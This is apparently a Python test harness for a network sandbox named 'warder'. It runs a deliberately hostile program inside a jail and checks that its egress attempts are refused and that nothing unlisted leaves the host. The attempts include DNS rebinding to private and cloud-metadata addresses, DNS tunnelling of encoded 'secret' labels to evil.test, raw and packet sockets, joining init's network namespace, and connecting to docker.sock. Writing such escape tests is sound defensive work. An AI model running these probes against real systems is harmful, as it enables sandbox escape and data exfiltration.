"""A hostile program under an allow-list of the network: what it tries, and what leaves the host meanwhile.

    stranger.py WARDER      run the attempts in jails, with the interfaces of the host watched
    stranger.py --special   print the addresses to which the names r0.rebind.test and so on lead

Run in the network namespace that is the host. Each attempt must fail in the jail and be counted as what it is; nothing leaves the host but
questions for listed names, and connections that a rule allows.
"""
import collections
import json
import os
import socket
import struct
import subprocess
import sys
import threading
import time

WORLD = "11.22.33.10"
SPECIAL = (
    "127.0.0.1 127.1.2.3 0.0.0.0 0.1.2.3 10.0.0.1 172.16.0.1 172.31.255.254 192.168.1.1 169.254.169.254 169.254.1.1 100.64.0.1 100.127.255.254 "
    "198.18.0.1 198.18.0.3 198.19.255.255 192.0.0.192 192.0.2.1 198.51.100.1 203.0.113.10 224.0.0.251 239.1.2.3 240.0.0.1 255.255.255.255 "
    "22.33.44.1 22.33.44.2 ::1 :: ::ffff:127.0.0.1 ::ffff:169.254.169.254 ::127.0.0.1 fe80::1 fc00::1 fd00:ec2::254 64:ff9b::7f00:1 "
    "2002:7f00:1::1 ff02::1 2001:db8::1"
).split()

# ---- inside: one group of attempts; prints those that succeeded ----

INSIDE = r"""
import json, os, socket, struct, sys, threading, time
succeeded = []
def attempt(label, do):
    try:
        if do() is not False: succeeded.append(label)
    except OSError:
        pass
def connect(host, port=80, data=b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n"):
    def do():
        with socket.create_connection((host, port), 8) as s:
            s.sendall(data.replace(b"%s", host.encode()))
            return s.recv(1) != b""
    return do
def send(host, port, family=socket.AF_INET, data=b"secret"):
    def do():
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            s.settimeout(0.3)
            s.connect((host, port))
            s.send(data)
            return s.recv(1) != b""
    return do
"""

GROUPS = {}


def group(name, rules, source, expected):
    """expected: (destination, port, protocol, reason) of the refusals; each must be listed."""
    GROUPS[name] = (rules, source, expected)


group(
    "names that lead to special addresses",
    ["*.rebind.test:80"],
    f"for i in range({len(SPECIAL)}): attempt(f'r{{i}}', connect(f'r{{i}}.rebind.test'))",
    [(f"r{i}.rebind.test", 80, "tcp", "privateAddress") for i in range(len(SPECIAL))],
)
V4 = [a for a in SPECIAL if ":" not in a and not a.startswith(("127.", "198.18.0.1", "198.18.0.3", "224.", "239.", "0.0.0.0", "255.", "240."))]
V6 = [a for a in SPECIAL if ":" in a and a not in ("::1", "::") and not a.startswith(("::ffff", "fe80", "ff02"))]
group(
    "the same addresses themselves, and others",
    ["0.0.0.0/0:80", "pypi.test:443"],
    f"for a in {V4 + V6!r}: attempt(a, connect(a))\n"
    "for a in ('11.22.33.10', '11.22.33.11', '8.8.8.8', '22.33.44.1', '::ffff:11.22.33.10'): attempt(a + ' 22', connect(a, 22))",
    [(a, 80, "tcp", "unlistedAddress") for a in V4 + V6] + [(a, 22, "tcp", "unlistedAddress") for a in ("11.22.33.10", "11.22.33.11", "8.8.8.8", "22.33.44.1")],
)
GUESSED = ["198.18.0.0", "198.18.0.4", "198.18.0.200", "198.18.1.2", "198.18.255.255", "198.19.0.2", "198.19.16.1"]
group(
    "guessed addresses of names",
    ["pypi.test:443", "*.cdn.test:80"],
    f"for a in {GUESSED!r}: attempt(a, connect(a))\n"
    "attempt('the resolver on 80', connect('198.18.0.1'))\nattempt('a name with another port', connect('pypi.test', 22))\n"
    "attempt('a name by its address with another port', connect('198.18.0.2', 8080))",
    [(a, 80, "tcp", "unlistedAddress") for a in GUESSED] + [("pypi.test", 22, "tcp", "unlistedPort"), ("pypi.test", 8080, "tcp", "unlistedPort")],
)
group(
    "a name whose address changes",
    ["turn.test:80"],
    "got = []\nfor i in range(8):\n    try: got.append(connect('turn.test')())\n    except OSError: got.append(None)\n"
    "if got.count(True) != 2 or got.count(None) != 6: succeeded.append(str(got))",
    [("turn.test", 80, "tcp", "privateAddress")],
)
group(
    "other protocols than TCP",
    ["pypi.test:443", WORLD + "/32:80"],
    "for a, p in (('pypi.test', 443), ('pypi.test', 53), ('11.22.33.10', 53), ('11.22.33.10', 80), ('8.8.8.8', 53), ('8.8.8.8', 123), ('169.254.169.254', 53),\n"
    "             ('198.18.0.7', 53), ('22.33.44.1', 53), ('10.1.1.1', 161)): attempt(f'UDP {a} {p}', send(a, p))\n"
    "for a in ('2001:db8::1', '2606:4700:4700::1111'): attempt(f'UDP {a}', send(a, 53, socket.AF_INET6)); attempt(a, connect(a, 443))\n"
    "attempt('mDNS', send('224.0.0.251', 5353)); attempt('all hosts', send('224.0.0.1', 9))\n"
    "for kind, protocol in ((3, 1), (3, 255), (2, 1), (1, 132), (5, 132), (6, 33), (2, 136)):\n"
    "    def other():\n"
    "        with socket.socket(socket.AF_INET, kind, protocol) as s:\n"
    "            s.settimeout(0.3)\n"
    "            s.connect(('11.22.33.10', 80))\n"
    "            s.send(b'secret')\n"
    "            return s.recv(1) != b''\n"
    "    attempt(f'type {kind} of protocol {protocol}', other)\n"
    "attempt('packets', lambda: socket.socket(socket.AF_PACKET, 3, 0))\n"
    "attempt('packets without headers', lambda: socket.socket(socket.AF_PACKET, 2, 0))\n"
    "for cid in (0, 1, 2): attempt(f'the host of a virtual machine, {cid}', lambda: socket.socket(socket.AF_VSOCK, 1).connect((cid, 22)))\n"
    "for family in (4, 5, 9, 21, 30, 31, 44): attempt(f'family {family}', lambda: socket.socket(family, 2, 0))\n"
    "def fast():\n"
    "    with socket.socket() as s:\n"
    "        s.settimeout(2)\n"
    "        s.sendto(b'secret', 0x20000000, ('11.22.33.11', 80))\n"
    "        return s.recv(1) != b''\n"
    "attempt('data in the first packet', fast)\n"
    "def routed():\n"
    "    with socket.socket() as s:\n"
    "        s.settimeout(2)\n"
    "        s.setsockopt(0, 4, b'\\x83\\x07\\x04\\x0b\\x16\\x21\\x0b\\0')\n"
    "        s.connect(('22.33.44.2', 80))\n"
    "attempt('a source route', routed)",
    [("pypi.test", 443, "udp", "protocol"), ("pypi.test", 53, "udp", "protocol"), (WORLD, 53, "udp", "protocol"), (WORLD, 80, "udp", "protocol")]
    + [(a, p, "udp", "protocol") for a, p in (("8.8.8.8", 53), ("8.8.8.8", 123), ("169.254.169.254", 53), ("198.18.0.7", 53), ("22.33.44.1", 53), ("10.1.1.1", 161))]
    + [(a, 53, "udp", "protocol") for a in ("2001:db8::1", "2606:4700:4700::1111")]
    + [(a, 443, "tcp", "unlistedAddress") for a in ("2001:db8::1", "2606:4700:4700::1111")]
    + [("11.22.33.11", 80, "tcp", "unlistedAddress")],
)
TUNNELS = ["c2vjcmv0.evil.test", "c2vjcmv0.pypi.test", "a.b.c.d.e.f.g.evil.test", "x" * 63 + ".evil.test", ".".join(["y" * 60] * 3) + ".evil.test", "cdn.test", "evil-cdn.test", "pypi.test.evil.test", "localhost"]
group(
    "data in questions for names",
    ["pypi.test:443", "*.cdn.test:80"],
    f"names = {TUNNELS!r}\n"
    "def question(name, kind=1, flags=b'\\1\\0', count=1, klass=1):\n"
    "    labels = b''.join(bytes([len(l)]) + l.encode('latin1') for l in name.split('.')) + b'\\0'\n"
    "    return b'\\x12\\x34' + flags + struct.pack('>HHHH', count, 0, 0, 0) + labels + struct.pack('>HH', kind, klass)\n"
    "def ask(data, tcp=False):\n"
    "    with socket.socket(2, 1 if tcp else 2) as s:\n"
    "        s.settimeout(2)\n"
    "        s.connect(('198.18.0.1', 53))\n"
    "        s.send(struct.pack('>H', len(data)) + data if tcp else data)\n"
    "        reply = s.recv(600)[2 if tcp else 0:]\n"
    "        return reply[3] & 15 == 0 and reply[6:8] != b'\\0\\0'\n"
    "for n in names:\n"
    "    for kind in (1, 16, 28, 255): attempt(f'{n} {kind}', lambda: ask(question(n, kind)))\n"
    "    attempt(f'{n} by TCP', lambda: ask(question(n), True))\n"
    "for kind in (2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 64, 65, 251, 252): attempt(f'pypi.test {kind}', lambda: ask(question('pypi.test', kind)))\n"
    "attempt('an update', lambda: ask(question('pypi.test', flags=b'\\x29\\0')))\n"
    "attempt('another class', lambda: ask(question('pypi.test', klass=3)))\n"
    "attempt('two questions', lambda: ask(question('pypi.test', count=2) + question('c2vjcmv0.evil.test')[12:]))\n"
    "attempt('a name that leads to itself', lambda: ask(question('')[:12] + b'\\xc0\\x0c\\0\\1\\0\\1'))\n"
    "attempt('an answer', lambda: ask(question('pypi.test', flags=b'\\x81\\x80')))\n"
    "for n in names: attempt(n, lambda: socket.getaddrinfo(n, 80) and n == 'localhost' and False)\n",
    [(n, None, "dns", "unlistedName") for n in TUNNELS],
)
group(
    "the host's sockets, and the jail's own network",
    ["pypi.test:443"],
    "import ctypes, fcntl\n"
    "libc = ctypes.CDLL(None, use_errno=True)\n"
    "def call(result):\n"
    "    if result < 0: raise OSError(ctypes.get_errno(), '')\n"
    "for name in ('stranger', '/tmp/.X11-unix/X0', '/tmp/dbus', '/containerd-shim/x.sock', '/run/warder/edge'):\n"
    "    for kind in (1, 2, 5): attempt(f'abstract {name} {kind}', lambda: socket.socket(1, kind).connect('\\0' + name))\n"
    "for path in ('/run/docker.sock', '/run/systemd/resolve/io.systemd.Resolve', '/run/dbus/system_bus_socket', '/run/nscd/socket', '/var/run/nscd/socket', '/run/warder/edge'):\n"
    "    attempt(path, lambda: socket.socket(1).connect(path))\n"
    "attempt('a new network', lambda: call(libc.unshare(0x40000000)))\n"
    "attempt('the network of init', lambda: call(libc.setns(os.open('/proc/1/ns/net', 0), 0x40000000)))\n"
    "attempt('the network of its parent', lambda: call(libc.setns(os.pidfd_open(1), 0x40000000)))\n"
    "def interface(request, data):\n"
    "    with socket.socket(2, 2) as s: fcntl.ioctl(s, request, data)\n"
    "attempt('lo down', lambda: interface(0x8914, struct.pack('16sh22x', b'lo', 0)))\n"
    "attempt('an address for lo', lambda: interface(0x8916, struct.pack('16sHH4s16x', b'lo', 2, 0, socket.inet_aton('11.22.33.10'))))\n"
    "attempt('a route', lambda: interface(0x890b, bytes(120)))\n"
    "attempt('a tunnel', lambda: os.open('/dev/net/tun', 2))\n"
    "def netlink(kind, body):\n"
    "    with socket.socket(16, 3, 0) as s:\n"
    "        s.settimeout(1)\n"
    "        s.send(struct.pack('=IHHII', 16 + len(body), kind, 5, 1, 0) + body)\n"
    "        return struct.unpack_from('=i', s.recv(4096), 16)[0] == 0\n"
    "attempt('a route by netlink', lambda: netlink(24, struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 3, 0, 1, 0)))\n"
    "attempt('a rule by netlink', lambda: netlink(32, struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 0, 0, 1, 0)))\n"
    "attempt('an interface by netlink', lambda: netlink(16, struct.pack('=BBHiII', 0, 0, 0, 1, 0, 1)))\n"
    "attempt('an address by netlink', lambda: netlink(20, struct.pack('=BBBBi', 2, 32, 0, 0, 1) + struct.pack('=HH4s', 8, 2, bytes(4))))\n"
    "def low():\n"
    "    with socket.socket() as s: s.bind(('198.18.0.2', 443))\n"
    "attempt('the address of a name, to listen there', low)\n"
    "def device():\n"
    "    with socket.socket() as s:\n"
    "        s.setsockopt(1, 25, b'eth0\\0')\n"
    "attempt('another interface', device)\n",
    [],
)
group(
    "slow connections, and more than there may be",
    ["echo.test:7", "pypi.test:80"],
    "kept = []\n"
    "def more():\n"
    "    s = socket.create_connection(('echo.test', 7), 5)\n"
    "    s.sendall(b'.')\n"
    "    kept.append(s)\n"
    "    return s.recv(1) != b''\n"
    "first = sum(more() for i in range(20))\n"
    "for i in range(10): attempt(f'one more, {i}', more)\n"
    "if first != 20: succeeded.append(f'only {first}')\n"
    "for s in kept: s.setsockopt(1, 13, struct.pack('ii', 1, 0)); s.close()\n"
    "time.sleep(0.3)\n"
    "questions = [socket.create_connection(('198.18.0.1', 53), 5) for i in range(40)]\n"
    "if socket.gethostbyname('pypi.test') != '198.18.0.3': succeeded.append('no name any more')\n"
    "if connect('pypi.test')() is not True: succeeded.append('no place any more')\n",
    [("echo.test", 7, "tcp", "maxConnections")],
)

# ---- outside ----


class Watch:
    """What leaves the host by any of its interfaces: (protocol, address, port) of IPv4, names that are asked for, and all of IPv6 but the kernel's own."""

    def __init__(self):
        self.sent, self.asked, self.strange = collections.Counter(), set(), []
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
        threading.Thread(target=self.run, daemon=True).start()

    def run(self):
        while True:
            packet, (_, ethertype, kind, *_rest) = self.socket.recvfrom(65536)
            if kind != socket.PACKET_OUTGOING:
                continue
            if ethertype == 0x86DD and packet[6] not in (0, 58):
                self.strange.append(packet[:60].hex())
            if ethertype == 0x0800:
                self.look(packet)

    def look(self, packet):
        header = (packet[0] & 15) * 4
        port = struct.unpack_from(">H", packet, header + 2)[0]
        to = (packet[9], socket.inet_ntoa(packet[16:20]), port)
        self.sent[to] += 1
        if to[0] == 17 and port == 53:
            labels, at = [], header + 20
            while packet[at]:
                labels.append(packet[at + 1 : at + 1 + packet[at]].decode("latin1"))
                at += 1 + packet[at]
            self.asked.add(".".join(labels).lower())


def run_group(warder, name):
    rules, source, expected = GROUPS[name]
    command = [warder, "run", "--json", "--timeout", "60s", "--net", "allow", "--max-connections", "20"]
    for rule in rules:
        command += ["--allow", rule]
    command += ["--", "python3", "-c", INSIDE + source + "\nprint('\\n'.join(map(str, succeeded)))\nsys.exit(bool(succeeded))"]
    done = subprocess.run(command, capture_output=True, check=False)
    result = json.loads(done.stdout)
    network = result["network"]
    got = {(r["destination"], r.get("port"), r["protocol"], r["reason"]): r["count"] for r in network["refusals"]}
    faults = [f"{name}: not counted: {row}" for row in expected if row not in got]
    if result["exitCode"] != 0:
        faults.append(f"{name}: {result['stdout']['text']} {result['stderr']['text'][-800:]}")
    if network["edgeDied"]:
        faults.append(f"{name}: the edge has died")
    if network["notListed"]:
        faults.append(f"{name}: {network['notListed']} refusals beyond the list")
    return faults, network["refused"]


def main(warder):
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind("\0stranger")
    abstract.listen()
    own = socket.create_server(("0.0.0.0", 80))
    watch = Watch()
    faults, refused = [], 0
    for name in GROUPS:
        more, count = run_group(warder, name)
        faults += more
        refused += count
    time.sleep(0.5)
    allowed = {(17, WORLD, 53), (6, WORLD, 80), (6, WORLD, 7)}
    faults += [f"has left the host: {to}" for to in watch.sent if to not in allowed]
    faults += [f"was asked for: {name}" for name in watch.asked if not name.endswith((".rebind.test", "turn.test", "echo.test", "pypi.test")) or "c2vjcmv0" in name]
    faults += [f"IPv6: {packet}" for packet in watch.strange]
    own.close()
    print("\n".join(faults))
    print(f"{refused} refusals; left the host: {sorted(watch.sent)}; asked: {len(watch.asked)} names")
    sys.exit(bool(faults))


if sys.argv[1:] == ["--special"]:
    print(" ".join(SPECIAL))
else:
    main(os.path.abspath(sys.argv[1]))
